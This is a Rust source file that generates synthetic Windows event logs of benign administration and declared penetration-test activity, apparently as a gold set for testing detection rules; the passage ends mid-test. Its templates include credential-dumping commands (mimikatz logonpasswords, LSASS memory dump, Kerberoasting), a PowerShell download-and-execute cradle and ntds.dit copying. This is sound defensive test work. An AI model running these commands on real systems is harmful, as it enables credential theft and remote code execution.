//! The benign half of the triage gold set: what administration scripts, backups, software
//! deployment, vulnerability scanners, IT automation and declared penetration tests write into
//! Windows logs, and what the SigmaHQ rules flag all the same.
//!
//! Each routine is a table of the events it writes (process creations, script blocks, service
//! installations), with slots filled from random values at each draw: host, account, domain,
//! server, package, dates. A case is one routine run once on one machine, written in one of the
//! export shapes real collectors produce (`evtx` JSON, Winlogbeat, Winlogbeat 6, NXLog's flat
//! records), as Sysmon or as the Security log's 4688. A seed makes a draw reproducible; every
//! run of the harness draws afresh unless given one, so nothing is tuned to particular values.

use std::collections::HashMap;

use base64::Engine as _;
use jiff::Timestamp;
use rand::rngs::StdRng;
use rand::seq::IndexedRandom as _;
use rand::{Rng as _, SeedableRng as _};
use serde_json::{Value, json};

/// Why the activity happens.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Family {
    Administration,
    Backup,
    Deployment,
    Scanner,
    Automation,
    /// Attack tools run by testers inside a window the institution declared.
    DeclaredTest,
}

impl Family {
    pub fn as_str(self) -> &'static str {
        match self {
            Family::Administration => "administration",
            Family::Backup => "backup",
            Family::Deployment => "deployment",
            Family::Scanner => "scanner",
            Family::Automation => "automation",
            Family::DeclaredTest => "declared_test",
        }
    }
}

/// One event a routine writes. Values hold slots (`{host}`) and alternatives (`{a|b}`).
enum Step {
    /// A process started: image, command line, parent image, parent command line.
    Process(&'static str, &'static str, &'static str, &'static str),
    /// A PowerShell script block (4104).
    Script(&'static str),
    /// A service installed (System 7045): name, image path.
    Service(&'static str, &'static str),
}

struct Routine {
    family: Family,
    name: &'static str,
    steps: &'static [Step],
}

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

use Family::{Administration, Automation, Backup, DeclaredTest, Deployment, Scanner};
use Step::{Process, Script, Service};

/// The routines, as their tools log them.
const ROUTINES: &[Routine] = &[
    // Administration scripts.
    Routine {
        family: Administration,
        name: "privileged group audit",
        steps: &[Process(
            "C:\\Windows\\System32\\net.exe",
            "net group \"{Domain Admins|Enterprise Admins|Schema Admins}\" /domain",
            CMD,
            "cmd.exe /c C:\\Scripts\\audit\\groups.cmd",
        )],
    },
    Routine {
        family: Administration,
        name: "local administrators audit",
        steps: &[Process(
            "C:\\Windows\\System32\\net.exe",
            "net localgroup {administrators|Administrators} ",
            CMD,
            "cmd.exe /c C:\\Scripts\\audit\\local-admins.cmd > \\\\{server}\\reports$\\{host}.txt",
        )],
    },
    Routine {
        family: Administration,
        name: "domain controller health check",
        steps: &[
            Process(
                "C:\\Windows\\System32\\nltest.exe",
                "nltest /dclist:{domain}",
                CMD,
                "cmd.exe /c C:\\Scripts\\dc-health.cmd",
            ),
            Process(
                "C:\\Windows\\System32\\nltest.exe",
                "nltest /domain_trusts /all_trusts",
                CMD,
                "cmd.exe /c C:\\Scripts\\dc-health.cmd",
            ),
        ],
    },
    Routine {
        family: Administration,
        name: "support session: who am I running as",
        steps: &[Process(
            "C:\\Windows\\System32\\whoami.exe",
            "whoami {/all|/priv|/groups}",
            CMD,
            "\"C:\\Windows\\system32\\cmd.exe\" ",
        )],
    },
    Routine {
        family: Administration,
        name: "hardware and software inventory",
        steps: &[
            Process(
                "C:\\Windows\\System32\\systeminfo.exe",
                "systeminfo /fo csv",
                CMD,
                "cmd.exe /c C:\\Scripts\\inventory\\collect.cmd",
            ),
            Process(
                "C:\\Windows\\System32\\wbem\\WMIC.exe",
                "wmic qfe list brief /format:table",
                CMD,
                "cmd.exe /c C:\\Scripts\\inventory\\collect.cmd",
            ),
        ],
    },
    Routine {
        family: Administration,
        name: "sessions check before a maintenance reboot",
        steps: &[Process(
            "C:\\Windows\\System32\\quser.exe",
            "quser /server:{server}",
            CMD,
            "cmd.exe",
        )],
    },
    Routine {
        family: Administration,
        name: "autorun audit",
        steps: &[Process(
            "C:\\Windows\\System32\\reg.exe",
            "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\{Run|RunOnce}",
            CMD,
            "cmd.exe /c C:\\Scripts\\audit\\autoruns.cmd",
        )],
    },
    Routine {
        family: Administration,
        name: "firewall opening for the monitoring agent",
        steps: &[Process(
            "C:\\Windows\\System32\\netsh.exe",
            "netsh advfirewall firewall add rule name=\"{Zabbix Agent|Checkmk Agent|Nagios NRPE}\" dir=in action=allow protocol=TCP localport={port}",
            PS,
            "powershell.exe -ExecutionPolicy Bypass -File C:\\Deploy\\monitoring\\install.ps1",
        )],
    },
    Routine {
        family: Administration,
        name: "computer inventory from Active Directory",
        steps: &[Script(
            "Import-Module ActiveDirectory\r\nGet-ADComputer -Filter * -Properties OperatingSystem,LastLogonDate | Select Name,OperatingSystem,LastLogonDate | Out-File \\\\{server}\\reports$\\computers-{date}.txt",
        )],
    },
    Routine {
        family: Administration,
        name: "remote desktop enabled for a support session",
        steps: &[Process(
            "C:\\Windows\\System32\\reg.exe",
            "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
            CMD,
            "cmd.exe /c C:\\Scripts\\support\\enable-rdp.cmd",
        )],
    },
    Routine {
        family: Administration,
        name: "service principal names inventory",
        steps: &[Process(
            "C:\\Windows\\System32\\setspn.exe",
            "setspn -T {domain} -Q */*",
            CMD,
            "cmd.exe /c C:\\Scripts\\audit\\spn.cmd",
        )],
    },
    Routine {
        family: Administration,
        name: "event log archive and clear",
        steps: &[
            Process(
                "C:\\Windows\\System32\\wevtutil.exe",
                "wevtutil epl {Application|System} \\\\{server}\\logs$\\{host}-{date}.evtx",
                PS,
                "powershell.exe -File C:\\Scripts\\logs\\archive.ps1",
            ),
            Process(
                "C:\\Windows\\System32\\wevtutil.exe",
                "wevtutil cl {Application|System}",
                PS,
                "powershell.exe -File C:\\Scripts\\logs\\archive.ps1",
            ),
        ],
    },
    Routine {
        family: Administration,
        name: "share permissions repair",
        steps: &[
            Process(
                "C:\\Windows\\System32\\takeown.exe",
                "takeown /f D:\\Shares\\{share} /r /d y",
                CMD,
                "cmd.exe",
            ),
            Process(
                "C:\\Windows\\System32\\icacls.exe",
                "icacls D:\\Shares\\{share} /grant \"{domain}\\{share}-rw\":(OI)(CI)M /t /c",
                CMD,
                "cmd.exe",
            ),
        ],
    },
    Routine {
        family: Administration,
        name: "network troubleshooting",
        steps: &[
            Process("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all", CMD, "cmd.exe"),
            Process("C:\\Windows\\System32\\NETSTAT.EXE", "netstat -ano", CMD, "cmd.exe"),
            Process("C:\\Windows\\System32\\ARP.EXE", "arp -a", CMD, "cmd.exe"),
        ],
    },
    // Backups.
    Routine {
        family: Backup,
        name: "Active Directory install-from-media backup",
        steps: &[Process(
            "C:\\Windows\\System32\\ntdsutil.exe",
            "ntdsutil \"ac i ntds\" \"ifm\" \"create full E:\\Backup\\IFM-{date}\" q q",
            CMD,
            "cmd.exe /c E:\\Backup\\ad-ifm.cmd",
        )],
    },
    Routine {
        family: Backup,
        name: "old system state backups pruned",
        steps: &[Process(
            "C:\\Windows\\System32\\wbadmin.exe",
            "wbadmin delete systemstatebackup -keepVersions:{3|5|7} -quiet",
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        )],
    },
    Routine {
        family: Backup,
        name: "registry hives saved for disaster recovery",
        steps: &[
            Process(
                "C:\\Windows\\System32\\reg.exe",
                "reg save HKLM\\SYSTEM E:\\Backup\\{date}\\SYSTEM.hiv /y",
                CMD,
                "cmd.exe /c E:\\Backup\\hives.cmd",
            ),
            Process(
                "C:\\Windows\\System32\\reg.exe",
                "reg save HKLM\\SOFTWARE E:\\Backup\\{date}\\SOFTWARE.hiv /y",
                CMD,
                "cmd.exe /c E:\\Backup\\hives.cmd",
            ),
        ],
    },
    Routine {
        family: Backup,
        name: "scripted shadow copy for a consistent database backup",
        steps: &[Process(
            "C:\\Windows\\System32\\diskshadow.exe",
            "diskshadow /s E:\\Backup\\shadow-{n}.dsh",
            CMD,
            "cmd.exe /c E:\\Backup\\db-backup.cmd",
        )],
    },
    Routine {
        family: Backup,
        name: "directory database copy from a shadow copy",
        steps: &[Process(
            "C:\\Windows\\System32\\esentutl.exe",
            "esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d E:\\Backup\\{date}\\ntds.dit",
            CMD,
            "cmd.exe /c E:\\Backup\\ad-files.cmd",
        )],
    },
    Routine {
        family: Backup,
        name: "old shadow copies pruned by the backup agent",
        steps: &[Process(
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin delete shadows /for={D|E}: /oldest /quiet",
            "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe",
            "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\"",
        )],
    },
    // Software deployment.
    Routine {
        family: Deployment,
        name: "package pushed with PsExec",
        steps: &[
            Process(
                "C:\\Tools\\Sysinternals\\PsExec64.exe",
                "PsExec64.exe \\\\{target} -accepteula -s msiexec.exe /i \\\\{server}\\deploy$\\{package}.msi /qn /norestart",
                CMD,
                "cmd.exe /c C:\\Deploy\\push.cmd",
            ),
            Service("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"),
        ],
    },
    Routine {
        family: Deployment,
        name: "installer from the deployment share",
        steps: &[Process(
            "C:\\Windows\\System32\\msiexec.exe",
            "msiexec.exe /i \\\\{server}\\deploy$\\{package}.msi /qn /norestart /l*v C:\\Windows\\Temp\\{package}.log",
            "C:\\Windows\\CCM\\CcmExec.exe",
            "C:\\Windows\\CCM\\CcmExec.exe",
        )],
    },
    Routine {
        family: Deployment,
        name: "update fetched with BITS",
        steps: &[Process(
            "C:\\Windows\\System32\\bitsadmin.exe",
            "bitsadmin /transfer {package} /download /priority normal https://{repo}/packages/{package}.msi C:\\Windows\\Temp\\{package}.msi",
            CMD,
            "cmd.exe /c C:\\Deploy\\fetch.cmd",
        )],
    },
    Routine {
        family: Deployment,
        name: "package fetched from the internal repository",
        steps: &[Process(
            PS,
            "powershell.exe -NoProfile -Command \"Invoke-WebRequest -Uri https://{repo}/packages/{package}.zip -OutFile C:\\Windows\\Temp\\{package}.zip\"",
            CMD,
            "cmd.exe /c C:\\Deploy\\fetch.cmd",
        )],
    },
    Routine {
        family: Deployment,
        name: "certificate revocation list fetched with certutil",
        steps: &[Process(
            "C:\\Windows\\System32\\certutil.exe",
            "certutil.exe -urlcache -split -f http://{repo}/pki/{package}.crl C:\\Windows\\Temp\\{package}.crl",
            CMD,
            "cmd.exe /c C:\\Deploy\\pki.cmd",
        )],
    },
    Routine {
        family: Deployment,
        name: "service created by an installer",
        steps: &[
            Process(
                "C:\\Windows\\System32\\sc.exe",
                "sc.exe create {package}Svc binPath= \"C:\\Program Files\\{vendor}\\{package}\\{package}Svc.exe\" start= auto",
                CMD,
                "cmd.exe /c C:\\Deploy\\{package}\\install.cmd",
            ),
            Service(
                "{package}Svc",
                "\"C:\\Program Files\\{vendor}\\{package}\\{package}Svc.exe\"",
            ),
        ],
    },
    Routine {
        family: Deployment,
        name: "updater scheduled by an installer",
        steps: &[Process(
            "C:\\Windows\\System32\\schtasks.exe",
            "schtasks /create /tn \"{vendor}\\{package} Update\" /tr \"C:\\Program Files\\{vendor}\\{package}\\update.exe\" /sc daily /st 0{hour}:00 /ru SYSTEM /f",
            "C:\\Windows\\System32\\msiexec.exe",
            "C:\\Windows\\system32\\msiexec.exe /V",
        )],
    },
    // Vulnerability scanners.
    Routine {
        family: Scanner,
        name: "credentialed scan through WMI",
        steps: &[
            Process(
                CMD,
                "cmd.exe /c netstat -ano > C:\\Windows\\TEMP\\nessus_{n}.txt",
                "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            ),
            Process(
                CMD,
                "cmd.exe /c wmic service get name,pathname,startmode > C:\\Windows\\TEMP\\nessus_{n}b.txt",
                "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            ),
        ],
    },
    Routine {
        family: Scanner,
        name: "network discovery from the scanner host",
        steps: &[Process(
            "C:\\Program Files (x86)\\Nmap\\nmap.exe",
            "nmap.exe -sV -p 1-1024 {subnet}.0/24 -oX C:\\Scans\\{date}-{n}.xml",
            PS,
            "powershell.exe -File C:\\Scans\\weekly.ps1",
        )],
    },
    Routine {
        family: Scanner,
        name: "agent-based scan collecting installed software",
        steps: &[Process(
            PS,
            "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -Command \"Get-WmiObject -Class Win32_Product | Select-Object Name,Version\"",
            "C:\\Program Files\\Qualys\\QualysAgent\\QualysAgent.exe",
            "\"C:\\Program Files\\Qualys\\QualysAgent\\QualysAgent.exe\"",
        )],
    },
    // IT automation.
    Routine {
        family: Automation,
        name: "Ansible task over WinRM",
        steps: &[Process(
            PS,
            "PowerShell -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand {ansible}",
            "C:\\Windows\\System32\\wsmprovhost.exe",
            "C:\\Windows\\system32\\wsmprovhost.exe -Embedding",
        )],
    },
    Routine {
        family: Automation,
        name: "Configuration Manager script",
        steps: &[Process(
            PS,
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass \"& 'C:\\Windows\\CCM\\SystemTemp\\{guid}.ps1'\"",
            "C:\\Windows\\CCM\\CcmExec.exe",
            "C:\\Windows\\CCM\\CcmExec.exe",
        )],
    },
    Routine {
        family: Automation,
        name: "Intune remediation script",
        steps: &[Process(
            PS,
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -executionPolicy bypass -file \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{guid}_1.ps1\"",
            "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe",
            "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\agentexecutor.exe\" -powershell",
        )],
    },
    Routine {
        family: Automation,
        name: "logon script from SYSVOL",
        steps: &[Process(
            PS,
            "powershell.exe -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -File \\\\{domain}\\SYSVOL\\{domain}\\scripts\\{Drives|Printers|Baseline}.ps1",
            "C:\\Windows\\System32\\gpscript.exe",
            "gpscript.exe /Logon",
        )],
    },
    Routine {
        family: Automation,
        name: "Puppet agent applying a registry setting",
        steps: &[Process(
            "C:\\Windows\\System32\\reg.exe",
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v {RunAsPPL|LmCompatibilityLevel} /t REG_DWORD /d {1|5} /f",
            CMD,
            "cmd.exe /c \"C:\\Program Files\\Puppet Labs\\Puppet\\bin\\puppet.bat\" agent --onetime",
        )],
    },
    Routine {
        family: Automation,
        name: "remote command through WinRM",
        steps: &[Process(
            "C:\\Windows\\System32\\winrs.exe",
            "winrs -r:{target} ipconfig /flushdns",
            PS,
            "powershell.exe -File C:\\Scripts\\dns\\flush-all.ps1",
        )],
    },
    // Penetration tests the institution declared.
    Routine {
        family: DeclaredTest,
        name: "credential dumping in a declared penetration test",
        steps: &[Process(
            "C:\\Users\\{account}\\Desktop\\{m|mk|mimi}.exe",
            "{m|mk|mimi}.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
            CMD,
            "cmd.exe",
        )],
    },
    Routine {
        family: DeclaredTest,
        name: "Kerberoasting in a declared penetration test",
        steps: &[Process(
            "C:\\Users\\{account}\\Downloads\\Rubeus.exe",
            "Rubeus.exe kerberoast /outfile:C:\\Users\\{account}\\Downloads\\roast-{n}.txt",
            CMD,
            "cmd.exe",
        )],
    },
    Routine {
        family: DeclaredTest,
        name: "memory dump of LSASS in a declared penetration test",
        steps: &[Process(
            "C:\\Users\\{account}\\Downloads\\procdump64.exe",
            "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\{account}\\Downloads\\l{n}.dmp",
            CMD,
            "cmd.exe",
        )],
    },
    Routine {
        family: DeclaredTest,
        name: "download cradle in a declared penetration test",
        steps: &[Process(
            PS,
            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{tester}/{n}.ps1')\"",
            CMD,
            "cmd.exe",
        )],
    },
    Routine {
        family: DeclaredTest,
        name: "domain reconnaissance in a declared penetration test",
        steps: &[Process(
            "C:\\Users\\{account}\\Downloads\\SharpHound.exe",
            "SharpHound.exe -c All --zipfilename {date}-{n}.zip",
            CMD,
            "cmd.exe",
        )],
    },
];

/// One generated case: its events (NDJSON), and the window declared for it, if any.
#[derive(Debug, Clone)]
pub struct Generated {
    pub family: Family,
    pub name: String,
    /// One event per line.
    pub ndjson: String,
    /// The window the institution declared for a penetration test.
    pub declared: Option<rempart_config::incidents::Declared>,
}

const DOMAINS: &[&str] = &["CORP", "AGENCY", "BANKNET", "MINFIN", "EUADM"];
const SUFFIXES: &[&str] = &["corp.example.eu", "ad.agency.example", "int.bank.example", "lan"];
const HOST_PREFIXES: &[&str] = &["SRV", "WS", "PC", "APP", "DB", "FS", "DC", "LAPTOP"];
const DEPARTMENTS: &[&str] = &["FIN", "HR", "OPS", "IT", "LEG", "ADM", "SEC", "DEV"];
const GIVEN: &[&str] = &[
    "anna", "jan", "maria", "pierre", "lukas", "sofia", "mateo", "eva", "tomas", "ines", "piotr", "giulia",
];
const SURNAMES: &[&str] = &[
    "kowalski", "dubois", "rossi", "muller", "garcia", "novak", "jansen", "virtanen", "horvath", "silva",
];
const VENDORS: &[&str] = &["Contoso", "Fabrikam", "Northwind", "Tailspin", "Litware"];
const PACKAGES: &[&str] = &[
    "Agent",
    "Reader",
    "Client",
    "Connector",
    "Monitor",
    "Runtime",
    "Viewer",
    "Sync",
];
const SHAPES: &[&str] = &["evtx", "winlogbeat", "winlogbeat6", "nxlog"];

/// The values one case's slots take.
struct Slots(HashMap<&'static str, String>);

impl Slots {
    fn draw(rng: &mut StdRng, when: Timestamp) -> Slots {
        let domain = pick(rng, DOMAINS).to_owned();
        let suffix = pick(rng, SUFFIXES);
        let host = format!(
            "{}-{}-{:02}",
            pick(rng, HOST_PREFIXES),
            pick(rng, DEPARTMENTS),
            rng.random_range(1..100)
        );
        let account = match rng.random_range(0..3) {
            0 => format!("{}.{}", pick(rng, GIVEN), pick(rng, SURNAMES)),
            1 => format!("adm-{}{}", &pick(rng, GIVEN)[..1], pick(rng, SURNAMES)),
            _ => format!(
                "svc-{}",
                pick(rng, &["backup", "deploy", "scan", "ansible", "sccm", "inventory"])
            ),
        };
        let package = format!("{}{}", pick(rng, VENDORS), pick(rng, PACKAGES));
        let date = when.strftime("%Y%m%d").to_string();
        let ansible = base64::engine::general_purpose::STANDARD.encode(
            format!(
                "$ErrorActionPreference = 'Stop'; Set-Service -Name {} -StartupType Automatic; Start-Service -Name {}",
                pick(rng, &["W32Time", "Spooler", "WinRM", "BITS"]),
                pick(rng, &["W32Time", "Spooler", "WinRM", "BITS"])
            )
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>(),
        );
        let mut s = HashMap::new();
        s.insert("fqdn", format!("{}.{suffix}", host.to_ascii_lowercase()));
        s.insert("host", host);
        s.insert(
            "target",
            format!("{}-{:02}", pick(rng, HOST_PREFIXES), rng.random_range(1..100)),
        );
        s.insert(
            "server",
            format!(
                "{}{:02}",
                pick(rng, &["fs", "srv-files", "nas", "backup"]),
                rng.random_range(1..20)
            ),
        );
        s.insert(
            "repo",
            format!("{}.{suffix}", pick(rng, &["repo", "packages", "software", "pki"])),
        );
        s.insert(
            "tester",
            format!(
                "10.{}.{}.{}",
                rng.random_range(0..255),
                rng.random_range(0..255),
                rng.random_range(2..250)
            ),
        );
        s.insert(
            "subnet",
            format!("10.{}.{}", rng.random_range(0..255), rng.random_range(0..255)),
        );
        s.insert(
            "share",
            pick(rng, &["Finance", "HR", "Projects", "Public", "Legal"]).to_owned(),
        );
        s.insert("vendor", pick(rng, VENDORS).to_owned());
        s.insert("package", package);
        s.insert("port", rng.random_range(1024..65535).to_string());
        s.insert("days", rng.random_range(30..181).to_string());
        s.insert("hour", rng.random_range(1..6).to_string());
        s.insert("n", rng.random_range(1000..100_000).to_string());
        s.insert("guid", uuid::Uuid::from_u128(rng.random()).to_string());
        s.insert("ansible", ansible);
        s.insert("date", date);
        s.insert("domain", domain);
        s.insert("account", account);
        Slots(s)
    }

    fn get(&self, slot: &str) -> &str {
        self.0.get(slot).map_or("", String::as_str)
    }

    /// Fills `{slot}` with this case's value and `{a|b}` with one alternative; any other brace
    /// (a PowerShell script block) stays as written.
    fn fill(&self, rng: &mut StdRng, template: &str) -> String {
        let mut out = String::with_capacity(template.len() + 32);
        let mut rest = template;
        while let Some(open) = rest.find('{') {
            out.push_str(&rest[..open]);
            rest = &rest[open..];
            let inner = rest[1..]
                .find(['{', '}'])
                .filter(|&i| rest.as_bytes()[1 + i] == b'}')
                .map(|i| &rest[1..=i]);
            match inner {
                Some(inner) if self.0.contains_key(inner) || inner.contains('|') => {
                    match self.0.get(inner) {
                        Some(v) => out.push_str(v),
                        None => out.push_str(pick(rng, &inner.split('|').collect::<Vec<_>>())),
                    }
                    rest = &rest[inner.len() + 2..];
                }
                _ => {
                    out.push('{');
                    rest = &rest[1..];
                }
            }
        }
        out.push_str(rest);
        out
    }
}

fn pick<'a>(rng: &mut StdRng, options: &[&'a str]) -> &'a str {
    options.choose(rng).copied().unwrap_or_default()
}

/// The export shape's record for an event of `channel`/`provider`/`id` with `data`.
fn record(shape: &str, channel: &str, provider: &str, id: u32, computer: &str, time: Timestamp, data: Value) -> Value {
    let t = time.to_string();
    match shape {
        "winlogbeat" => json!({
            "@timestamp": t,
            "winlog": {"channel": channel, "provider_name": provider, "event_id": id, "computer_name": computer,
                       "record_id": time.as_second() % 1_000_000, "event_data": data},
            "host": {"name": computer},
            "agent": {"type": "winlogbeat", "version": "8.15.3"},
        }),
        "winlogbeat6" => json!({
            "@timestamp": t, "event_id": id, "log_name": channel, "source_name": provider,
            "computer_name": computer, "event_data": data, "beat": {"name": computer, "version": "6.8.23"},
        }),
        "nxlog" => {
            let mut flat = json!({
                "EventTime": time.strftime("%Y-%m-%d %H:%M:%S").to_string(),
                "EventReceivedTime": t, "Hostname": computer, "EventID": id, "Channel": channel,
                "SourceName": provider, "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog",
            });
            if let (Some(flat), Value::Object(data)) = (flat.as_object_mut(), data) {
                flat.extend(data);
            }
            flat
        }
        _ => json!({"Event": {
            "System": {"Provider": {"#attributes": {"Name": provider}}, "EventID": id, "Channel": channel,
                       "Computer": computer, "TimeCreated": {"#attributes": {"SystemTime": t}},
                       "EventRecordID": time.as_second() % 1_000_000},
            "EventData": data,
        }}),
    }
}

/// Draws `count` cases from `seed`, cycling through the routines so that every one is drawn,
/// each run on its own machine at its own time in November 2026.
pub fn generate(seed: u64, count: usize) -> Vec<Generated> {
    let mut rng = StdRng::seed_from_u64(seed);
    let base = Timestamp::from_second(1_793_491_200).unwrap_or(Timestamp::UNIX_EPOCH); // 2026-11-01
    let mut out = Vec::with_capacity(count);
    for i in 0..count {
        let routine = &ROUTINES[i % ROUTINES.len()];
        let start = base
            .checked_add(jiff::SignedDuration::from_secs(rng.random_range(0..29 * 86_400)))
            .unwrap_or(base);
        let slots = Slots::draw(&mut rng, start);
        let shape = pick(&mut rng, SHAPES);
        let computer = slots.get("fqdn").to_owned();
        let user = format!("{}\\{}", slots.get("domain"), slots.get("account"));
        let sysmon = rng.random_bool(0.6);
        let mut lines = String::new();
        let mut time = start;
        for (k, step) in routine.steps.iter().enumerate() {
            time = time
                .checked_add(jiff::SignedDuration::from_secs(rng.random_range(1..40)))
                .unwrap_or(time);
            let pid = rng.random_range(1000..60_000u32);
            let event = match step {
                Process(image, cmd, parent, parent_cmd) => {
                    let cmd = slots.fill(&mut rng, cmd);
                    let image = slots.fill(&mut rng, image);
                    let parent_cmd = slots.fill(&mut rng, parent_cmd);
                    if sysmon {
                        record(
                            shape,
                            "Microsoft-Windows-Sysmon/Operational",
                            "Microsoft-Windows-Sysmon",
                            1,
                            &computer,
                            time,
                            json!({
                                "RuleName": "-", "UtcTime": time.strftime("%Y-%m-%d %H:%M:%S%.3f").to_string(),
                                "ProcessGuid": format!("{{{}}}", uuid::Uuid::from_u128(rng.random())),
                                "ProcessId": pid, "Image": image, "FileVersion": "-", "CommandLine": cmd,
                                "CurrentDirectory": "C:\\Windows\\system32\\", "User": user,
                                "LogonId": format!("0x{:x}", rng.random_range(0x10000..0xfffff_u32)),
                                "IntegrityLevel": "High",
                                "Hashes": format!("SHA256={:064X}", rng.random::<u128>()),
                                "ParentProcessId": pid - 7 - k as u32, "ParentImage": parent,
                                "ParentCommandLine": parent_cmd, "ParentUser": user,
                            }),
                        )
                    } else {
                        record(
                            shape,
                            "Security",
                            "Microsoft-Windows-Security-Auditing",
                            4688,
                            &computer,
                            time,
                            json!({
                                "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1105",
                                "SubjectUserName": slots.get("account"), "SubjectDomainName": slots.get("domain"),
                                "SubjectLogonId": "0x3e7", "NewProcessId": format!("0x{pid:x}"),
                                "NewProcessName": image, "TokenElevationType": "%%1937",
                                "ProcessId": format!("0x{:x}", pid - 7), "CommandLine": cmd,
                                "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-",
                                "TargetLogonId": "0x0", "ParentProcessName": parent, "MandatoryLabel": "S-1-16-12288",
                            }),
                        )
                    }
                }
                Script(text) => record(
                    shape,
                    "Microsoft-Windows-PowerShell/Operational",
                    "Microsoft-Windows-PowerShell",
                    4104,
                    &computer,
                    time,
                    json!({"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": slots.fill(&mut rng, text),
                           "ScriptBlockId": uuid::Uuid::from_u128(rng.random()).to_string(), "Path": ""}),
                ),
                Service(name, path) => record(
                    shape,
                    "System",
                    "Service Control Manager",
                    7045,
                    &computer,
                    time,
                    json!({"ServiceName": slots.fill(&mut rng, name), "ImagePath": slots.fill(&mut rng, path),
                           "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"}),
                ),
            };
            lines.push_str(&event.to_string());
            lines.push('\n');
        }
        let declared = (routine.family == DeclaredTest).then(|| rempart_config::incidents::Declared {
            name: format!("Penetration test {}", slots.get("n")),
            kind: "penetration_test".into(),
            reference: format!("PT-{}-{}", slots.get("date"), slots.get("n")),
            hosts: vec![computer.to_ascii_lowercase()],
            accounts: vec![slots.get("account").to_ascii_lowercase()],
            from: start.checked_sub(jiff::SignedDuration::from_hours(2)).unwrap_or(start),
            until: time.checked_add(jiff::SignedDuration::from_hours(6)).unwrap_or(time),
        });
        out.push(Generated {
            family: routine.family,
            name: format!(
                "{}: {} on {} ({shape})",
                routine.family.as_str(),
                routine.name,
                slots.get("host")
            ),
            ndjson: lines,
            declared,
        });
    }
    out
}

/// How many routines the generator knows.
#[cfg(test)]
pub fn routines() -> usize {
    ROUTINES.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_routine_is_drawn_and_every_line_is_a_windows_event() {
        let cases = generate(7, routines() * 2);
        assert_eq!(cases.len(), routines() * 2);
        for family in [Administration, Backup, Deployment, Scanner, Automation, DeclaredTest] {
            assert!(cases.iter().any(|c| c.family == family), "{family:?}");
        }
        for c in &cases {
            assert_eq!(c.declared.is_some(), c.family == DeclaredTest, "{}", c.name);
            let mut events = Vec::new();
            rempart_ingest::decode::decode_bytes(
                "benign",
                c.ndjson.as_bytes(),
                &rempart_ingest::decode::DecodeOptions::default(),
                Timestamp::now(),
                &mut |d| events.push(d),
            );
            assert_eq!(events.len(), c.ndjson.lines().count(), "{}", c.name);
            for d in events {
                let rempart_ingest::decode::Decoded::Event(e) = d else {
                    panic!("{} not decoded as an event", c.name)
                };
                assert_eq!(e.format, rempart_model::Format::WindowsJson, "{}", c.name);
                assert!(e.normalized.host.is_some(), "{}", c.name);
            }
            for line in c.ndjson.lines() {
                // Every slot was filled: no `{name}` is left in what a collector would send.
                for slot in [
                    "{host}",
                    "{account}",
                    "{domain}",
                    "{package}",
                    "{date}",
                    "{n}",
                    "{days}",
                ] {
                    assert!(!line.contains(slot), "{slot} in {line}");
                }
            }
        }
    }

    #[test]
    fn slots_and_alternatives_are_filled_and_script_blocks_kept() {
        let mut rng = StdRng::seed_from_u64(9);
        let slots = Slots::draw(&mut rng, Timestamp::UNIX_EPOCH);
        let out = slots.fill(
            &mut rng,
            "{host} {a|a} Where-Object {$_.X -lt (Get-Date).AddDays(-{days})} {none}",
        );
        let days = slots.get("days");
        assert_eq!(
            out,
            format!(
                "{} a Where-Object {{$_.X -lt (Get-Date).AddDays(-{days})}} {{none}}",
                slots.get("host")
            )
        );
    }

    #[test]
    fn a_seed_draws_the_same_cases_and_another_seed_other_values() {
        let (a, b, c) = (generate(1, 20), generate(1, 20), generate(2, 20));
        assert!(a.iter().zip(&b).all(|(x, y)| x.ndjson == y.ndjson));
        assert!(a.iter().zip(&c).any(|(x, y)| x.ndjson != y.ndjson));
    }

    #[test]
    fn a_declared_window_covers_its_case_and_no_other_machine() {
        for c in generate(3, routines() * 3).into_iter().filter(|c| c.declared.is_some()) {
            let d = c.declared.as_ref().unwrap();
            let first: Value = serde_json::from_str(c.ndjson.lines().next().unwrap()).unwrap();
            let host = first.to_string();
